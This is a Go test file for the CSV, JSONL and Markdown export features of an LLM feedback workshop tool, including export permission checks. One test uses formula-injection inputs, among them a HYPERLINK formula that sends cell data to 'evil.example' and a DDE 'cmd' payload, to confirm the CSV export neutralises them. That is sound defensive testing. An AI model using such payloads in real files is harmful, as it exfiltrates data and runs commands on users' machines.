package workshop_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/honehq/hone"
	"github.com/honehq/hone/internal/llm/llmtest"
	"github.com/honehq/hone/internal/storage"
	"github.com/honehq/hone/internal/storage/storagetest"
	"github.com/honehq/hone/internal/workshop"
)

// Texts that CSV must quote, and one that looks like a formula.
const (
	exportInput   = "Can I \"swap\" shifts, then\nleave early?\r\nAsk, please."
	exportOutput  = `{"answer": "Yes, with "approval"` + "\n" + `"}`
	exportComment = "Said \"no\", then\nleft, \"twice\"; a, b\tc"
	exportAnswer  = "line one\nline \"two\", three"
)

// exportWorkshop is a workshop in discovery whose feedback mixes LLM and
// fallback questions:
//   - alice on t1: GOOD, three LLM questions
//   - bob on t1: BAD with exportComment, three fallback questions (no LLM), answers exportAnswer
//   - alice on t2: BAD, question 1 from the LLM, question 2 the fallback, question 3 pending
func exportWorkshop(t *testing.T, db *storage.DB) *fixture {
	t.Helper()
	f := newFixture(t, db, true)
	traces, _ := json.Marshal([]map[string]any{
		{"id": "t1", "input": exportInput, "output": exportOutput},
		{"id": "t2", "input": map[string]any{"q": "json, input"}, "output": "plain"},
		{"id": "t3", "input": "unreviewed", "output": "unreviewed"},
	})
	if _, err := f.svc.ImportTraces(admin, f.ws.ID, "", bytes.NewReader(traces), workshop.FormatJSON, false); err != nil {
		t.Fatal(err)
	}
	if _, err := f.svc.Begin(admin, f.ws.ID, "", 3, false); err != nil {
		t.Fatal(err)
	}
	f.llm.SetHandler(func(llmtest.ChatRequest) llmtest.Reply { return llmtest.Text("What made it so?") })
	noLLM := workshop.NewService(db.Workshops(), nil, workshop.Options{Scores: scores(db)})
	a, b := f.as(f.alice), f.as(f.bob)
	f.complete(a, f.alice, "t1", "good")

	if _, err := noLLM.SubmitFeedback(b, f.ws.ID, workshop.FeedbackInput{TraceID: "t1", Label: "bad", Comment: exportComment}); err != nil {
		t.Fatal(err)
	}
	for n := 1; n <= workshop.Questions; n++ {
		q, err := noLLM.GenerateQuestion(b, f.ws.ID, "t1", "", n)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := noLLM.SubmitAnswer(b, f.ws.ID, workshop.AnswerInput{TraceID: "t1", Question: q.Question, Answer: exportAnswer}); err != nil {
			t.Fatal(err)
		}
	}

	if _, err := f.svc.SubmitFeedback(a, f.ws.ID, workshop.FeedbackInput{TraceID: "t2", Label: "bad", Comment: "too vague"}); err != nil {
		t.Fatal(err)
	}
	for n, svc := range []*workshop.Service{f.svc, noLLM} {
		q, err := svc.GenerateQuestion(a, f.ws.ID, "t2", "", n+1)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := svc.SubmitAnswer(a, f.ws.ID, workshop.AnswerInput{TraceID: "t2", Question: q.Question, Answer: "answer"}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := f.svc.GenerateQuestion(a, f.ws.ID, "t2", "", 3); err != nil {
		t.Fatal(err)
	}
	return f
}

// exportText runs an export of format as ctx's caller and returns it.
func exportText(t *testing.T, f *fixture, format string) (string, *workshop.Export) {
	t.Helper()
	e, err := f.svc.Export(f.as(f.facilitator), f.ws.ID, "", format)
	if err != nil {
		t.Fatalf("export %s: %v", format, err)
	}
	var b bytes.Buffer
	if err := e.Write(&b); err != nil {
		t.Fatalf("write %s: %v", format, err)
	}
	return b.String(), e
}

func TestExportJSONL(t *testing.T) {
	storagetest.Each(t, func(t *testing.T, db *storage.DB) {
		f := exportWorkshop(t, db)
		text, e := exportText(t, f, workshop.ExportJSONL)
		if e.Filename != "hone-workshop-"+f.ws.ID+".jsonl" || e.ContentType != "application/x-ndjson" {
			t.Errorf("export: %q %q", e.Filename, e.ContentType)
		}
		records := map[string]workshop.FeedbackRecord{}
		sc := bufio.NewScanner(strings.NewReader(text))
		for sc.Scan() {
			var r workshop.FeedbackRecord
			dec := json.NewDecoder(strings.NewReader(sc.Text()))
			dec.DisallowUnknownFields()
			if err := dec.Decode(&r); err != nil {
				t.Fatalf("line %q: %v", sc.Text(), err)
			}
			if r.Trace == nil {
				t.Fatalf("a record without its trace: %s", sc.Text())
			}
			records[r.Trace.ID+"/"+r.UserName] = r
		}
		if len(records) != 3 || !strings.HasSuffix(text, "\n") {
			t.Fatalf("%d records:\n%s", len(records), text)
		}
		bob := records["t1/Bob"]
		if bob.WorkshopID != f.ws.ID || bob.UserID != f.bob.ID || bob.Label != "bad" || bob.Comment != exportComment ||
			bob.Trace.InputText != exportInput || bob.Trace.OutputText != exportOutput || bob.UpdatedAt.IsZero() {
			t.Errorf("bob's record: %+v", bob)
		}
		if len(bob.FollowupQnA) != 3 {
			t.Fatalf("bob's answers: %+v", bob.FollowupQnA)
		}
		for i, qa := range bob.FollowupQnA {
			if !qa.Fallback || qa.Question != workshop.FallbackQuestions[i] || qa.Answer != exportAnswer {
				t.Errorf("bob's question %d is not marked a fallback: %+v", i+1, qa)
			}
		}
		alice := records["t1/Alice"]
		if len(alice.FollowupQnA) != 3 || slices.ContainsFunc(alice.FollowupQnA, func(qa workshop.QA) bool { return qa.Fallback }) ||
			alice.FollowupQnA[0].Question != "What made it so?" {
			t.Errorf("alice's LLM questions: %+v", alice.FollowupQnA)
		}
		mixed := records["t2/Alice"]
		if len(mixed.FollowupQnA) != 2 || mixed.FollowupQnA[0].Fallback || !mixed.FollowupQnA[1].Fallback ||
			string(mixed.Trace.Input) != `{"q":"json, input"}` {
			t.Errorf("alice's t2: %+v %s", mixed.FollowupQnA, mixed.Trace.Input)
		}
		if !strings.Contains(text, `"fallback":true`) {
			t.Errorf("the JSONL has no fallback flag:\n%s", text)
		}
	})
}

func TestExportCSVRoundTrips(t *testing.T) {
	storagetest.Each(t, func(t *testing.T, db *storage.DB) {
		f := exportWorkshop(t, db)
		text, e := exportText(t, f, workshop.ExportCSV)
		if e.Filename != "hone-workshop-"+f.ws.ID+".csv" || !strings.HasPrefix(e.ContentType, "text/csv") {
			t.Errorf("export: %q %q", e.Filename, e.ContentType)
		}
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatalf("the CSV does not parse: %v\n%s", err, text)
		}
		if !slices.Equal(rows[0], workshop.CSVHeader) || len(rows) != 4 {
			t.Fatalf("header %q, %d rows", rows[0], len(rows))
		}
		col := func(row []string, name string) string { return row[slices.Index(workshop.CSVHeader, name)] }
		byKey := map[string][]string{}
		for _, row := range rows[1:] {
			if len(row) != len(workshop.CSVHeader) {
				t.Fatalf("row of %d cells: %q", len(row), row)
			}
			byKey[col(row, "trace_id")+"/"+col(row, "user_name")] = row
		}
		bob := byKey["t1/Bob"]
		if bob == nil {
			t.Fatalf("no row of bob on t1: %q", rows)
		}
		// encoding/csv reads \r\n inside a quoted cell as \n.
		for name, want := range map[string]string{
			"trace_input": strings.ReplaceAll(exportInput, "\r\n", "\n"), "trace_output": exportOutput,
			"user_id": f.bob.ID, "feedback_label": "bad", "comment": exportComment,
			"question_1": workshop.FallbackQuestions[0], "answer_1": exportAnswer,
			"question_3": workshop.FallbackQuestions[2], "answer_3": exportAnswer, "fallback_questions": "1 2 3",
		} {
			if got := col(bob, name); got != want {
				t.Errorf("bob's %s = %q, want %q", name, got, want)
			}
		}
		if _, err := time.Parse(time.RFC3339, col(bob, "updated_at")); err != nil {
			t.Errorf("updated_at: %v", err)
		}
		if got := col(byKey["t1/Alice"], "fallback_questions"); got != "" {
			t.Errorf("alice's t1 fallback_questions = %q, want none", got)
		}
		mixed := byKey["t2/Alice"]
		if col(mixed, "fallback_questions") != "2" || col(mixed, "question_1") != "What made it so?" ||
			col(mixed, "question_2") != workshop.FallbackQuestions[1] || col(mixed, "question_3") != "" || col(mixed, "answer_3") != "" ||
			col(mixed, "trace_input") != `{"q":"json, input"}` {
			t.Errorf("alice's t2 row: %q", mixed)
		}
	})
}

func TestExportMarkdown(t *testing.T) {
	storagetest.Each(t, func(t *testing.T, db *storage.DB) {
		f := exportWorkshop(t, db)
		fac := f.as(f.facilitator)
		text, e := exportText(t, f, workshop.ExportMarkdown)
		if e.Filename != "hone-workshop-"+f.ws.ID+".md" || !strings.HasPrefix(e.ContentType, "text/markdown") {
			t.Errorf("export: %q %q", e.Filename, e.ContentType)
		}
		for _, want := range []string{"# Workshop: Support bot review\n\nHR answers\n\nPhase: discovery. Traces: 3.",
			"No analysis has finished yet.", "# Draft rubric (0 items)"} {
			if !strings.Contains(text, want) {
				t.Errorf("the Markdown before any analysis lacks %q:\n%s", want, text)
			}
		}

		none := []workshop.DisagreementAnalysis{}
		f.llm.SetHandler(func(r llmtest.ChatRequest) llmtest.Reply {
			return llmtest.JSON(workshop.DistillationOutput{
				Findings: []workshop.Finding{{Text: "Names the approval step", EvidenceTraceIDs: []string{"t1"}, Priority: "high"}},
				HighPriorityDisagreements: []workshop.DisagreementAnalysis{{TraceID: "t1", Summary: "leaving early",
					UnderlyingTheme: "policy detail", FollowupQuestions: []string{}, FacilitatorSuggestions: []string{}}},
				MediumPriorityDisagreements: none, LowerPriorityDisagreements: none, Summary: "Approval matters."})
		})
		for range 2 {
			st, err := f.svc.Analyze(fac, f.ws.ID, workshop.AnalyzeInput{})
			if err != nil {
				t.Fatal(err)
			}
			if a, err := f.svc.RunAnalysis(admin, f.ws.ID, st.ID); err != nil || a.Status != workshop.StatusDone {
				t.Fatalf("analysis: %+v %v", a, err)
			}
		}
		list, _ := f.svc.Analyses(admin, f.ws.ID, "", "")
		latest := list[0]

		promote := func(text, source string, traces ...string) *workshop.DraftItem {
			t.Helper()
			it, err := f.svc.Promote(fac, f.ws.ID, "", workshop.DraftItemInput{Text: text, SourceType: source, SourceTraceIDs: traces})
			if err != nil {
				t.Fatal(err)
			}
			return it
		}
		approval := promote("Names the\napproval step", workshop.SourceFinding, "t1")
		tone := promote("Keeps a kind tone", workshop.SourceManual)
		vague := promote("Is not vague", workshop.SourceFeedback, "t2")
		promote("Escalates FMLA questions", workshop.SourceManual)
		if _, err := f.svc.ApplyGroups(fac, f.ws.ID, "", workshop.Grouping{Groups: []workshop.ProposedGroup{
			{Name: "Accuracy", ItemIDs: []string{approval.ID, vague.ID}},
			{Name: "Tone\nand care", ItemIDs: []string{tone.ID}},
		}}); err != nil {
			t.Fatal(err)
		}

		text, _ = exportText(t, f, workshop.ExportMarkdown)
		for _, want := range []string{
			"_Latest analysis " + latest.ID + ", ",
			"\n## Discovery analysis: Evaluation Criteria\n",
			"\n### Summary\n\nApproval matters.",
			"**[HIGH]** Names the approval step _(evidence: t1)_",
			"\n#### HIGH: rating disagreements (GOOD and BAD) (1)\n",
			"\n##### Trace t1\n",
			"**Underlying theme:** policy detail",
			"\n# Draft rubric (4 items)\n",
		} {
			if !strings.Contains(text, want) {
				t.Errorf("the Markdown lacks %q:\n%s", want, text)
			}
		}
		if strings.Contains(text, list[1].ID) {
			t.Errorf("the Markdown names the older analysis %s", list[1].ID)
		}
		// Only the workshop's title and the draft rubric's are top headings.
		var tops []string
		for _, line := range strings.Split(text, "\n") {
			if strings.HasPrefix(line, "# ") {
				tops = append(tops, line)
			}
		}
		if len(tops) != 2 {
			t.Errorf("top headings %q", tops)
		}
		_, rubric, _ := strings.Cut(text, "# Draft rubric")
		sections := map[string]string{}
		var order []string
		for _, part := range strings.Split(rubric, "\n## ")[1:] {
			title, body, _ := strings.Cut(part, "\n")
			sections[title] = body
			order = append(order, title)
		}
		if !slices.Equal(order, []string{"Accuracy", "Tone and care", "Ungrouped"}) {
			t.Fatalf("rubric sections %q:\n%s", order, rubric)
		}
		for title, want := range map[string][]string{
			"Accuracy":      {"- Names the approval step _(finding; traces t1)_", "- Is not vague _(feedback; traces t2)_"},
			"Tone and care": {"- Keeps a kind tone _(manual)_"},
			"Ungrouped":     {"- Escalates FMLA questions _(manual)_"},
		} {
			items := 0
			for _, line := range strings.Split(sections[title], "\n") {
				if strings.HasPrefix(line, "- ") {
					items++
				}
			}
			if items != len(want) {
				t.Errorf("section %s has %d items, want %d:\n%s", title, items, len(want), sections[title])
			}
			for _, w := range want {
				if !strings.Contains(sections[title], w) {
					t.Errorf("section %s lacks %q:\n%s", title, w, sections[title])
				}
			}
		}
	})
}

func TestExportRefusals(t *testing.T) {
	storagetest.Each(t, func(t *testing.T, db *storage.DB) {
		f := newFixture(t, db, false)
		if _, err := f.svc.Export(f.as(f.alice), f.ws.ID, "", workshop.ExportCSV); hone.ErrorCode(err) != hone.EFORBIDDEN {
			t.Errorf("a participant's export: %v", err)
		}
		// On a hone without an API token, the role of the member named counts.
		if _, err := f.svc.Export(context.Background(), f.ws.ID, f.bob.ID, workshop.ExportJSONL); hone.ErrorCode(err) != hone.EFORBIDDEN {
			t.Errorf("an export as a participant (user_id): %v", err)
		}
		if _, err := f.svc.Export(context.Background(), f.ws.ID, f.facilitator.ID, workshop.ExportJSONL); err != nil {
			t.Errorf("an export as the facilitator (user_id): %v", err)
		}
		other, err := f.svc.Create(admin, workshop.Create{Name: "Other", Facilitator: workshop.Person{Name: "Olga"}})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.svc.Export(f.as(f.facilitator), other.ID, "", workshop.ExportMarkdown); hone.ErrorCode(err) != hone.EFORBIDDEN {
			t.Errorf("a facilitator's export of another workshop: %v", err)
		}
		if _, err := f.svc.Export(admin, f.ws.ID, "", "xlsx"); hone.ErrorField(err) != "format" || hone.ErrorCode(err) != hone.EINVALID {
			t.Errorf("format xlsx: %v", err)
		}
		if _, err := f.svc.Export(admin, "nope", "", workshop.ExportCSV); hone.ErrorCode(err) != hone.ENOTFOUND {
			t.Errorf("unknown workshop: %v", err)
		}
		// An empty workshop exports a header, nothing, and its title.
		for format, want := range map[string]string{
			workshop.ExportCSV:      strings.Join(workshop.CSVHeader, ",") + "\n",
			workshop.ExportJSONL:    "",
			workshop.ExportMarkdown: "# Workshop: Support bot review\n",
		} {
			text, _ := exportText(t, f, format)
			if !strings.HasPrefix(text, want) || format != workshop.ExportMarkdown && text != want {
				t.Errorf("empty %s export: %q", format, text)
			}
		}
	})
}

// TestExportCSVNeutralisesFormulas exports feedback whose texts a
// spreadsheet would run as formulas: the CSV cells get a leading
// apostrophe, numbers stay numbers, and the JSONL export keeps every text
// exact.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	storagetest.Each(t, func(t *testing.T, db *storage.DB) {
		f := newFixture(t, db, false)
		texts := map[string]string{
			"t1": `=HYPERLINK("https://evil.example/?"&A1,"Click")`,
			"t2": "+cmd|' /C calc'!A0",
			"t3": "-2+3",
			"t4": "@SUM(A1:A9)",
			"t5": "\tindented",
			"t6": "\rreturn",
			"t7": "-5",
			"t8": "plain, with a comma",
		}
		var traces []map[string]any
		for id, s := range texts {
			traces = append(traces, map[string]any{"id": id, "input": s, "output": "answer " + id})
		}
		b, _ := json.Marshal(traces)
		if _, err := f.svc.ImportTraces(admin, f.ws.ID, "", bytes.NewReader(b), workshop.FormatJSON, false); err != nil {
			t.Fatal(err)
		}
		if _, err := f.svc.Begin(admin, f.ws.ID, "", len(texts), false); err != nil {
			t.Fatal(err)
		}
		a := f.as(f.alice)
		for id, s := range texts {
			if _, err := f.svc.SubmitFeedback(a, f.ws.ID, workshop.FeedbackInput{TraceID: id, Label: "bad", Comment: s}); err != nil {
				t.Fatal(err)
			}
		}
		text, _ := exportText(t, f, workshop.ExportCSV)
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil || len(rows) != len(texts)+1 {
			t.Fatalf("the CSV: %d rows, %v\n%s", len(rows), err, text)
		}
		col := func(row []string, name string) string { return row[slices.Index(workshop.CSVHeader, name)] }
		for _, row := range rows[1:] {
			id := col(row, "trace_id")
			// Comments are trimmed of white space when given.
			input, comment := texts[id], strings.TrimSpace(texts[id])
			if id != "t7" && id != "t8" {
				input = "'" + input
			}
			if id != "t5" && id != "t6" && id != "t7" && id != "t8" {
				comment = "'" + comment
			}
			if got := col(row, "comment"); got != comment {
				t.Errorf("%s: comment cell %q, want %q", id, got, comment)
			}
			if got := col(row, "trace_input"); got != input {
				t.Errorf("%s: trace_input cell %q, want %q", id, got, input)
			}
		}

		jsonl, _ := exportText(t, f, workshop.ExportJSONL)
		sc := bufio.NewScanner(strings.NewReader(jsonl))
		seen := 0
		for sc.Scan() {
			var r workshop.FeedbackRecord
			if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
				t.Fatal(err)
			}
			want := texts[r.Trace.ID]
			enc, _ := json.Marshal(strings.TrimSpace(want))
			enc = bytes.ReplaceAll(enc, []byte(`\u0026`), []byte("&"))
			if r.Comment != strings.TrimSpace(want) || r.Trace.InputText != want || !bytes.Contains(sc.Bytes(), []byte(`"comment":`+string(enc))) {
				t.Errorf("%s: the JSONL comment is %q, input %q, want %q exactly: %s", r.Trace.ID, r.Comment, r.Trace.InputText, want, sc.Bytes())
			}
			seen++
		}
		if seen != len(texts) {
			t.Errorf("%d JSONL records", seen)
		}
	})
}
